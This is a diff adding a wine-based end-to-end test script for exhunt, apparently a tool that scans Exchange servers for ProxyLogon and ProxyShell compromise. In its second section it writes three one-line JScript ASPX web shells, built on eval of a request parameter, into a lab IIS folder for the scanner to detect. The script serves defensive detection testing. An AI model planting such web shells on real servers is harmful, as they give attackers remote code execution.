@@ -1,0 +1,121 @@
+# The Windows build (exhunt.exe) under wine: every lab host scenario
+# hunted from a folder gives the lab's truth, as the Linux build does;
+# the live hunt (no folder) finds Exchange from the registry and hunts
+# the drives it names; a long path, a Unicode name, a file another
+# process holds open for writing are read; a reparse point is named and
+# not followed; a report inside the evidence is refused; evtx and hive
+# readers run as bounded children.
+# Usage: hunt_wine.sh LINUX_EXHUNT SRC WIN_BUILD_DIR
+. "$(dirname "$0")/../e2e/lib.sh"
+WIN=$3/exhunt.exe
+[ -x "$WIN" ] || [ -f "$WIN" ] || fail "no $WIN (tools/win/build.sh)"
+export WINEPREFIX=$TMP/wine WINEDEBUG=-all WINEDLLOVERRIDES="mscoree,mshtml="
+wineboot -i >/dev/null 2>&1 || fail "wineboot"
+trap 'wineserver -k 2>/dev/null || true; cleanup' EXIT
+winpath() { echo "Z:$(echo "$1" | tr / '\\')"; }
+whunt() { # whunt ARGS...: exhunt.exe hunt under wine, its exit code kept
+	set +e
+	wine "$WIN" hunt --no-progress "$@"
+	WRC=$?
+	set -e
+}
+check() { python3 "$SRC/tests/e2e/hunt_check.py" "$@"; }
+
+wine "$WIN" --version | grep -q "exhunt" || fail "exhunt.exe --version"
+
+# 1. Every scenario, from a folder: the lab's truth, and the Linux
+# build's verdicts and back doors.
+for s in clean proxylogon-shell proxylogon-attempt proxylogon-oabgen \
+	proxyshell-pst proxyshell-attempt proxynotshell owassrf proxytoken \
+	proxyshell-hidden proxylogon-um proxyshell-export returned-later; do
+	tree=$TMP/$s
+	"$EXHUNT" lab host "$tree" --scenario $s --seed 1 --size 0.002 \
+		--truth "$TMP/$s.truth.json" || fail "lab host $s"
+	whunt "$(winpath "$tree")" --format json -o "$(winpath "$TMP/$s.win.json")" 2>"$TMP/$s.err"
+	if [ $s = clean ]; then [ $WRC = 0 ] || { cat "$TMP/$s.err"; fail "clean: exit $WRC"; }
+	else [ $WRC = 1 ] || { cat "$TMP/$s.err"; fail "$s: exit $WRC, want 1"; }; fi
+	check "$TMP/$s.truth.json" "$TMP/$s.win.json" || fail "$s under wine"
+	"$EXHUNT" hunt "$tree" --format json -o "$TMP/$s.linux.json" --no-progress 2>/dev/null || true
+	python3 - "$TMP/$s.linux.json" "$TMP/$s.win.json" <<'PY' || fail "$s: Windows and Linux differ"
+import json, sys
+a, b = (json.load(open(p)) for p in sys.argv[1:3])
+key = lambda r: (r["verdicts"], sorted(x["path"] for x in r["backdoors"]),
+                 sorted((f["kind"], f["path"], f["line"] or 0, f["severity"]) for f in r["findings"]))
+if key(a) != key(b):
+    ka, kb = key(a), key(b)
+    print("linux only:", sorted(set(map(str, ka[2])) - set(map(str, kb[2])))[:5])
+    print("windows only:", sorted(set(map(str, kb[2])) - set(map(str, ka[2])))[:5])
+    print("verdicts", ka[0], kb[0])
+    sys.exit(1)
+PY
+done
+
+# 2. Windows names: a path past 260 characters, a Unicode name, a
+# reparse point (a symbolic link) where IIS serves code.
+tree=$TMP/proxylogon-shell
+deep="$tree/inetpub/wwwroot/aspnet_client/$(printf 'd%.0s' $(seq 1 60))/$(printf 'e%.0s' $(seq 1 60))/$(printf 'f%.0s' $(seq 1 60))/$(printf 'g%.0s' $(seq 1 60))"
+mkdir -p "$deep"
+printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["z"],"unsafe");%%>' >"$deep/long.aspx"
+printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["q"],"unsafe");%%>' \
+	>"$tree/inetpub/wwwroot/aspnet_client/shéll_ü.aspx"
+mkdir -p "$TMP/outside"
+printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["o"],"unsafe");%%>' >"$TMP/outside/o.aspx"
+ln -s "$TMP/outside" "$tree/inetpub/wwwroot/aspnet_client/linked"
+whunt "$(winpath "$tree")" --format json -o "$(winpath "$TMP/names.json")" 2>/dev/null
+python3 - "$TMP/names.json" "$deep" "$tree" <<'PY' || fail "Windows names"
+import json, sys
+r = json.load(open(sys.argv[1])); deep = sys.argv[2][len(sys.argv[3]) + 1:]
+doors = {b["path"] for b in r["backdoors"]}
+assert deep + "/long.aspx" in doors, ("long path", sorted(doors))
+assert "inetpub/wwwroot/aspnet_client/shéll_ü.aspx" in doors, ("unicode", sorted(doors))
+assert not any("linked/" in d for d in doors), ("followed a link", doors)
+links = [f for f in r["findings"] if f["kind"] == "link"]
+assert any(f["path"].endswith("aspnet_client/linked") for f in links) or \
+    any("symbolic links were not followed" in n for n in r["notes"]), ("link not named", r["notes"])
+PY
+
+# 3. A report inside the evidence is refused, before anything is read.
+whunt "$(winpath "$tree")" -o "$(winpath "$tree/report.txt")" 2>"$TMP/inside.err"
+[ $WRC = 2 ] || fail "report inside the evidence: exit $WRC"
+grep -q "inside the evidence" "$TMP/inside.err" || fail "no reason given: $(cat "$TMP/inside.err")"
+[ ! -e "$tree/report.txt" ] || fail "a report was written into the evidence"
+
+# 4. A log another process holds open for writing (denying other writers)
+# is still read: a ProxyLogon request in an HTTP proxy log in use.
+held=$TMP/proxylogon-attempt
+log=$(find "$held" -path '*HttpProxy/Ecp/*' -name '*.LOG' | head -1)
+[ -n "$log" ] || log=$(find "$held" -ipath '*logging/httpproxy/*' -name '*.log' | head -1)
+[ -n "$log" ] || fail "no HTTP proxy log in the lab tree"
+content=$(cat "$log")
+rm "$log"
+wine "$3/holdopen.exe" "$(winpath "$log")" "$content" >"$TMP/hold.out" &
+HOLD=$!
+for _ in $(seq 1 100); do grep -q held "$TMP/hold.out" 2>/dev/null && break; sleep 0.1; done
+grep -q held "$TMP/hold.out" || fail "holdopen did not start"
+whunt "$(winpath "$held")" --format json -o "$(winpath "$TMP/held.json")" 2>/dev/null
+kill $HOLD 2>/dev/null || true
+check "$TMP/proxylogon-attempt.truth.json" "$TMP/held.json" || fail "a log held open: verdicts"
+python3 - "$TMP/held.json" "${log#"$held"/}" <<'PY' || fail "a log held open was not read"
+import json, sys
+r = json.load(open(sys.argv[1])); rel = sys.argv[2]
+assert not [u for u in r["unreadable"] if u.startswith(rel)], r["unreadable"]
+assert any(f["path"] == rel for f in r["findings"]), ("no finding from", rel)
+PY
+
+# 5. Live: no folder named. Exchange's install folder comes from the
+# registry, on drive D: (a lab tree); its shells are found there.
+live=$TMP/proxyshell-pst
+ln -sfn "$live" "$WINEPREFIX/dosdevices/d:"
+wine reg add 'HKLM\SOFTWARE\Microsoft\ExchangeServer\v15\Setup' /v MsiInstallPath \
+	/t REG_SZ /d 'D:\Program Files\Microsoft\Exchange Server\V15\' /f >/dev/null 2>&1 ||
+	fail "reg add"
+whunt --format json -o "$(winpath "$TMP/live.json")" 2>"$TMP/live.err"
+[ $WRC = 1 ] || { cat "$TMP/live.err"; fail "live: exit $WRC, want 1"; }
+check "$TMP/proxyshell-pst.truth.json" "$TMP/live.json" D/ || fail "live hunt"
+python3 - "$TMP/live.json" <<'PY' || fail "live: install not from the registry"
+import json, sys
+r = json.load(open(sys.argv[1]))
+assert any("from the registry" in n and "Exchange Server\\V15" in n for n in r["notes"]), r["notes"]
+assert r["source"] == "live", r.get("source")
+PY
+pass
